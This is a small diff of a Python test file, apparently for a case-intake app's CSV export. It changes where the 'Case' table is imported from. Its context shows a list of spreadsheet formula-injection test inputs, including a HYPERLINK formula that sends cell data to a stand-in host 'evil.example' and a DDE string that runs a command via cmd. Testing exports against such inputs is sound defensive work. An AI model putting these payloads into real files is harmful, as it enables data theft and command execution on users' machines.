@@ -17,7 +17,8 @@ import pytest
 from sqlmodel import select
 
 from intake import samples
-from intake.adapters.db import Case, session
+from intake.adapters.db import session
+from intake.store.tables import Case
 from intake.core.digest import CaseLine, cases_csv
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"cliquez")', "=1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)",
